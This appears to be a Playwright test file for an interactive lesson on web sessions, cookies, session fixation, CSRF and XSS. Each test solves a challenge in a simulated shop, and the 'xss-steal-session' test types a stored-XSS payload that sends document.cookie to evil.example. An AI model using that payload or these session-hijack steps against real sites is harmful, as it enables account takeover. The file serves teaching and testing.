/** Every challenge solved through the screen alone, as a student would, and wrong paths answered. */
import type { Page } from '@playwright/test';
import { CHALLENGES } from '../src/lessons/activities';
import { atRest, expect, test } from './fixtures';

async function openChallenge(page: Page, id: string, lang = 'en') {
  await page.goto(`./?lang=${lang}&challenge=${id}`);
  // A link into a late step replays the lesson up to it first: slow on a busy machine.
  await expect(page.getByTestId('challenge')).toBeVisible({ timeout: 20_000 });
  await expect(page.getByTestId('solved')).toHaveCount(0);
}

const tab = (page: Page, browser: string) =>
  page.getByRole('tab', { name: new RegExp(`${browser} · `) }).click();
const tryAgain = (page: Page) =>
  page.getByTestId('challenge').getByRole('button', { name: 'Try again' }).click();
const shop = (page: Page) => page.locator('#browser-page');
const myPage = (page: Page) => shop(page).getByRole('button', { name: 'My page' }).click();

async function logIn(page: Page, username: string, password: string) {
  await shop(page).getByLabel('User name').fill(username);
  await shop(page).getByLabel('Password').fill(password);
  await shop(page).getByRole('button', { name: 'Log in' }).click();
}

/** Opens the server's code and options, unless the step already has it open. */
async function openSettings(page: Page) {
  const details = page.locator('details.settings-code');
  if ((await details.getAttribute('open')) === null) await details.locator('summary').click();
}

const devtools = (page: Page, name: 'Application → Cookies' | 'Console') =>
  page.getByRole('tab', { name }).click();

/** DevTools' add-cookie form: the name typed, the value pasted from what was copied. */
async function pasteCookie(page: Page, name: string) {
  const form = page.getByRole('form', { name: 'Add a cookie' });
  await form.getByLabel('Name').fill(name);
  await form.getByRole('button', { name: 'Paste' }).click();
  await form.getByRole('button', { name: 'Add', exact: true }).click();
}

/** Ticks or unticks a box of the code panel; the box follows the server once it changed. */
async function tick(page: Page, label: RegExp, on: boolean) {
  const box = page.getByLabel(label);
  await box.click();
  await expect(box).toBeChecked({ checked: on });
}

/** The cookie's SameSite, in the express-session options. */
async function sameSite(page: Page, value: 'lax' | 'strict' | 'none') {
  await openSettings(page);
  await page
    .locator('label.option-select', { hasText: 'cookie.sameSite' })
    .locator('select')
    .selectOption(value);
}

/** evil.example in Chrome's tab, from the visitor menu (its image loads at once). */
async function openEvil(page: Page) {
  await page.locator('.visitor-menu summary').click();
  await page.getByRole('button', { name: 'Open evil.example in Chrome' }).click();
  await expect(shop(page).getByLabel('URL')).toHaveText('evil.example/');
}

async function expectSolved(page: Page) {
  await expect(page.getByTestId('solved')).toBeVisible();
  await expect(page.getByTestId('solved')).toBeFocused();
}

const SOLVE: Record<string, (page: Page) => Promise<void>> = {
  'forget-without-logout': async (page) => {
    await page.getByRole('button', { name: '+30 min' }).click();
    await page.getByRole('button', { name: '+5 min' }).click();
    await myPage(page);
  },
  'stranger-again': async (page) => {
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Delete: connect.sid' }).click();
    await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'log-out-one': async (page) => {
    await tab(page, 'Edge');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await tab(page, 'Chrome');
    await myPage(page);
  },
  'plant-session-id': async (page) => {
    await tab(page, 'Firefox');
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Copy: connect.sid' }).click();
    await tab(page, 'Chrome');
    await pasteCookie(page, 'connect.sid');
    await logIn(page, 'mina', 'sesame');
    await tab(page, 'Firefox');
    await myPage(page);
    await expect(shop(page)).toContainText('user_id: 152');
  },
  'stop-fixation': async (page) => {
    await openSettings(page);
    await tick(page, /req\.session\.regenerate\(\)/, true);
    await logIn(page, 'mina', 'sesame');
    await tab(page, 'Firefox');
    await myPage(page);
  },
  'hide-from-scripts': async (page) => {
    await devtools(page, 'Console');
    const consolePanel = page.getByTestId('console');
    await consolePanel.getByRole('button', { name: /Run document\.cookie/ }).click();
    await expect(consolePanel).toContainText("'connect.sid=");
    await openSettings(page);
    await tick(page, /cookie\.httpOnly/, true);
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await consolePanel.getByRole('button', { name: /Run document\.cookie/ }).click();
  },
  'idle-timeout': async (page) => {
    await openSettings(page);
    await page.getByLabel('cookie.maxAge').selectOption({ label: '5 minutes' });
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await page.getByRole('button', { name: '+5 min' }).click();
    await myPage(page);
  },
  'no-row-for-strangers': async (page) => {
    await openSettings(page);
    await tick(page, /saveUninitialized/, false);
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Delete: connect.sid' }).click();
    await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'sticky-without-sharing': async (page) => {
    await page
      .getByLabel('Servers', { exact: true })
      .selectOption({ label: 'two servers, sticky sessions' });
    await logIn(page, 'mina', 'sesame');
    await myPage(page);
    await myPage(page);
  },
  'two-users': async (page) => {
    await tab(page, 'Chrome');
    await logIn(page, 'mina', 'sesame');
    await tab(page, 'Safari');
    await logIn(page, 'joon', 'tiger');
  },
  'steal-without-password': async (page) => {
    await tab(page, 'Chrome');
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Copy: connect.sid' }).click();
    await tab(page, 'Firefox');
    await devtools(page, 'Application → Cookies');
    await pasteCookie(page, 'connect.sid');
    await myPage(page);
  },
  'stolen-worthless': async (page) => {
    await tab(page, 'Chrome');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await tab(page, 'Firefox');
    await myPage(page);
  },
  'stay-logged-in': async (page) => {
    await page.locator('.settings-code summary').click();
    await page.getByLabel('cookie.maxAge').selectOption({ label: '7 days' });
    await logIn(page, 'mina', 'sesame');
    await page.locator('.visitor-menu summary').click();
    await page.getByRole('button', { name: 'Close Chrome' }).click();
    await myPage(page);
  },
  'forget-everyone': async (page) => {
    await page.getByRole('button', { name: 'Restart the server' }).click();
  },
  'edit-the-cookie': async (page) => {
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Edit value: session', exact: true }).click();
    // Chrome's cart and login, with Joon's user_id: typed as base64, as a student would.
    await page
      .getByRole('textbox', { name: 'Edit value' })
      .fill(btoa('{"cart":["apple"],"userId":214}'));
    await page.getByRole('button', { name: 'Save' }).click();
    await myPage(page);
    await expect(shop(page)).not.toContainText('user_id: 214');
  },
  'outlive-logout': async (page) => {
    for (const name of ['session', 'session.sig']) {
      await tab(page, 'Chrome');
      await devtools(page, 'Application → Cookies');
      await page.getByRole('button', { name: `Copy: ${name}`, exact: true }).click();
      await tab(page, 'Firefox');
      await devtools(page, 'Application → Cookies');
      await pasteCookie(page, name);
    }
    await tab(page, 'Chrome');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await tab(page, 'Firefox');
    await myPage(page);
    await expect(shop(page)).toContainText('user_id: 152');
  },
  'php-strict': async (page) => {
    await openSettings(page);
    await tick(page, /session\.use_strict_mode/, true);
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Edit value: PHPSESSID', exact: true }).click();
    await page.getByRole('textbox', { name: 'Edit value' }).fill('madeupbyattacker');
    await page.getByRole('button', { name: 'Save' }).click();
    await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'tomcat-idle': async (page) => {
    await page.getByRole('button', { name: '+30 min' }).click();
    await myPage(page);
  },
  'laravel-lottery': async (page) => {
    await openSettings(page);
    await page.getByRole('combobox', { name: /lottery/ }).selectOption('1/1');
    for (let i = 0; i < 5; i++) await page.getByRole('button', { name: '+30 min' }).click();
    await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'flask-forge': async (page) => {
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Edit value: session', exact: true }).click();
    // Joon's user_id typed as base64 before the first dot; the timestamp and signature kept.
    const value = page.getByRole('textbox', { name: 'Edit value' });
    const was = await value.inputValue();
    await value.fill(`${btoa('{"user_id":214}')}${was.slice(was.indexOf('.'))}`);
    await page.getByRole('button', { name: 'Save' }).click();
    await myPage(page);
    await expect(shop(page)).not.toContainText('user_id: 214');
  },
  'flask-signer': async (page) => {
    await openSettings(page);
    await tick(page, /SESSION_USE_SIGNER/, true);
    await devtools(page, 'Application → Cookies');
    await page.getByRole('button', { name: 'Edit value: session', exact: true }).click();
    await page.getByRole('textbox', { name: 'Edit value' }).fill('made-up-by-attacker');
    await page.getByRole('button', { name: 'Save' }).click();
    await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'open-admin': async (page) => {
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'sora', 'owl');
    await shop(page).getByRole('button', { name: 'Admin' }).click();
    await expect(shop(page)).toContainText('Admin: every account');
  },
  'forbidden-not-unknown': async (page) => {
    await tab(page, 'Safari');
    await shop(page).getByRole('button', { name: 'Admin' }).click();
    await expect(page.locator('.nudge')).toContainText('That is 401');
    await logIn(page, 'mina', 'sesame');
    await shop(page).getByRole('button', { name: 'Admin' }).click();
    await expect(shop(page)).toContainText('(403)');
  },
  'login-sticks': async (page) => {
    await page.locator('.visitor-menu summary').click();
    await page.getByRole('button', { name: 'Allow cookies in Safari again' }).click();
    await logIn(page, 'mina', 'sesame');
    await myPage(page);
  },
  'secure-cafe-link': async (page) => {
    await openSettings(page);
    await page.getByLabel(/cookie\.secure/).selectOption('true');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await shop(page).getByRole('button', { name: 'http://shop.example/me' }).click();
  },
  'secure-eavesdrop': async (page) => {
    // Read off the café's network, typed into Firefox's jar by hand.
    const line = await page.getByTestId('eavesdropper').locator('.overheard-cookie').textContent();
    const value = /connect\.sid=([^;\s]+)/.exec(line ?? '')![1]!;
    await tab(page, 'Firefox');
    await devtools(page, 'Application → Cookies');
    const form = page.getByRole('form', { name: 'Add a cookie' });
    await form.getByLabel('Name').fill('connect.sid');
    await form.getByLabel('Value').fill(value);
    await form.getByRole('button', { name: 'Add', exact: true }).click();
    await myPage(page);
  },
  'kinds-keep-login': async (page) => {
    await openSettings(page);
    await page.getByLabel('cookie.maxAge').selectOption({ label: '30 minutes' });
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await page.locator('.visitor-menu summary').click();
    await page.getByRole('button', { name: 'Close Chrome' }).click();
    await myPage(page);
  },
  'kinds-three-connections': async (page) => {
    for (let i = 0; i < 3; i++) {
      await page.getByRole('button', { name: '+5 min' }).click();
      await myPage(page);
    }
  },
  'three-strangers': async (page) => {
    await page.locator('.visitor-menu summary').click();
    await page.getByRole('button', { name: 'Block all cookies in Safari' }).click();
    for (let i = 0; i < 3; i++) await shop(page).getByRole('button', { name: 'Home' }).click();
  },
  'forged-form-fails': async (page) => {
    await sameSite(page, 'strict');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await openEvil(page);
    await shop(page).getByRole('button', { name: 'Claim' }).click();
  },
  'links-stay': async (page) => {
    await sameSite(page, 'lax');
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await openEvil(page);
    await shop(page).getByRole('button', { name: 'See your order at shop.example' }).click();
    await expect(shop(page)).toContainText('user_id: 152');
    await openEvil(page);
    await shop(page).getByRole('button', { name: 'Claim' }).click();
  },
  'token-stops': async (page) => {
    await openSettings(page);
    await tick(page, /csrfSynchronisedProtection/, true);
    await myPage(page);
    await openEvil(page);
    await shop(page).getByRole('button', { name: 'Claim' }).click();
    await expect(shop(page)).toContainText('(403)');
  },
  'xss-steal-session': async (page) => {
    const reviews = shop(page);
    await reviews.getByRole('button', { name: 'Reviews' }).click();
    // Firefox already shows the review page: what is typed before the new one arrives is lost.
    await atRest(page);
    await reviews
      .getByLabel('Your review')
      .fill(`<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`);
    await reviews.getByRole('button', { name: 'Post review' }).click();
    await tab(page, 'Chrome');
    await reviews.getByRole('button', { name: 'Reviews' }).click();
    await tab(page, 'Firefox');
    await page
      .getByTestId('evil-entry')
      .filter({ hasText: 'from Chrome' })
      .getByRole('button', { name: 'Use connect.sid in Firefox' })
      .click();
    await myPage(page);
  },
  'xss-httponly-stops-theft': async (page) => {
    await openSettings(page);
    await tick(page, /cookie\.httpOnly/, true);
    // Her session keeps the cookie it was made with: she logs in again for a new one.
    await shop(page).getByRole('button', { name: 'Log out' }).click();
    await logIn(page, 'mina', 'sesame');
    await shop(page).getByRole('button', { name: 'Reviews' }).click();
  },
  'xss-escape-output': async (page) => {
    await openSettings(page);
    await tick(page, /escapeHtml\(\)/, true);
    await shop(page).getByRole('button', { name: 'Reviews' }).click();
  },
  'survive-two-servers': async (page) => {
    await page
      .getByLabel('Servers', { exact: true })
      .selectOption({ label: 'two servers, one central store' });
    await logIn(page, 'mina', 'sesame');
    await myPage(page);
  },
};

test('every challenge has a solution through the screen in this spec', () => {
  expect(Object.keys(SOLVE).sort()).toEqual(CHALLENGES.map((c) => c.id).sort());
});

for (const challenge of CHALLENGES) {
  test(`solves “${challenge.id}” through the screen only`, async ({ page }) => {
    await openChallenge(page, challenge.id);
    await SOLVE[challenge.id]!(page);
    await expectSolved(page);
  });
}

test('a wrong path gets a word, not silence; hints come one at a time', async ({ page }) => {
  await openChallenge(page, 'forget-without-logout');
  await page.getByRole('button', { name: 'Hint' }).click();
  await expect(page.locator('.hints li')).toHaveCount(1);
  await page.getByRole('button', { name: 'Another hint' }).click();
  await expect(page.locator('.hints li')).toHaveCount(2);
  await expect(page.getByRole('button', { name: 'Another hint' })).toBeDisabled();
  await shop(page).getByRole('button', { name: 'Log out' }).click();
  await expect(page.locator('.nudge')).toContainText('That is logging out');
  await expect(page.getByTestId('solved')).toHaveCount(0);
  // Try again returns to the challenge's start: logged in again, no word.
  await tryAgain(page);
  await expect(page.locator('.nudge')).toHaveCount(0);
  await expect(shop(page)).toContainText('Mina');
});

test('fixation: the attacker gets in while the login keeps the ID, and not once it renews it', async ({
  page,
}) => {
  test.slow(); // two attempts, each across three tabs
  await openChallenge(page, 'stop-fixation');
  // Both jars hold the same planted ID.
  await devtools(page, 'Application → Cookies');
  const planted = await page.locator('[data-cookie="connect.sid"] code.value').textContent();
  await tab(page, 'Firefox');
  await expect(page.locator('[data-cookie="connect.sid"] code.value')).toHaveText(planted!);
  await tab(page, 'Chrome');
  await logIn(page, 'mina', 'sesame');
  await tab(page, 'Firefox');
  await myPage(page);
  await expect(shop(page)).toContainText('user_id: 152');
  await expect(page.locator('.nudge')).toContainText('The attacker is in');
  await expect(page.getByTestId('solved')).toHaveCount(0);
  // The login code shown says so; ticking regenerate changes it.
  await tryAgain(page);
  await openSettings(page);
  const code = page.locator('details.settings-code pre').last();
  await expect(code).toContainText('no regenerate()');
  await tick(page, /req\.session\.regenerate\(\)/, true);
  await expect(code).toContainText('req.session.regenerate(() =>');
  await tab(page, 'Chrome');
  await logIn(page, 'mina', 'sesame');
  await expect(page.locator('[data-cookie="connect.sid"] code.value')).not.toHaveText(planted!);
  await tab(page, 'Firefox');
  await myPage(page);
  await expect(shop(page)).not.toContainText('user_id: 152');
  await expectSolved(page);
});

test('httpOnly: the option alone leaves the old session’s cookie readable, and says why', async ({
  page,
}) => {
  await openChallenge(page, 'hide-from-scripts');
  await devtools(page, 'Console');
  const consolePanel = page.getByTestId('console');
  await consolePanel.getByRole('button', { name: /Run document\.cookie/ }).click();
  await openSettings(page);
  await tick(page, /cookie\.httpOnly/, true);
  await myPage(page);
  await consolePanel.getByRole('button', { name: /Run document\.cookie/ }).click();
  await expect(consolePanel.locator('code')).toContainText(/connect\.sid=[^]*connect\.sid=/);
  await expect(page.locator('.nudge')).toContainText('keeps the cookie options it was made with');
  await expect(page.getByTestId('solved')).toHaveCount(0);
});

test('Show me plays the solution; a solved challenge is marked in Contents, and kept', async ({
  page,
}) => {
  test.slow(); // the reload replays the lesson up to the challenge again
  await openChallenge(page, 'forget-everyone');
  await page.getByRole('button', { name: 'Show me' }).click();
  await expect(page.getByTestId('solved')).toBeVisible();
  // Watching is not solving: not marked.
  await page.getByRole('button', { name: 'Contents' }).click();
  const entry = page.locator('.contents-challenges li', { hasText: 'Forget everyone at once' });
  await expect(entry).not.toContainText('solved');
  await page.keyboard.press('Escape');
  await tryAgain(page);
  await page.getByRole('button', { name: 'Restart the server' }).click();
  await expectSolved(page);
  await page.reload();
  await page.getByRole('button', { name: 'Contents' }).click();
  await expect(entry).toContainText('solved');
});

test('a challenge opens from its step and goes back to the lesson', async ({ page }) => {
  await page.goto('./?lang=ko&step=busy-day');
  // Two challenges start from this step; this one is offered by its title.
  await page.getByTestId('start-challenge').filter({ hasText: '모두를 한꺼번에 잊게' }).click();
  await expect(page.getByTestId('challenge')).toContainText('모두를 한꺼번에 잊게');
  await expect(page).toHaveURL(/challenge=forget-everyone/);
  await page.getByRole('button', { name: '수업으로 돌아가기' }).click();
  await expect(page.getByTestId('challenge')).toHaveCount(0);
  await expect(page).not.toHaveURL(/challenge=/);
  await expect(page.locator('#step-title')).toHaveText('바쁜 하루');
});
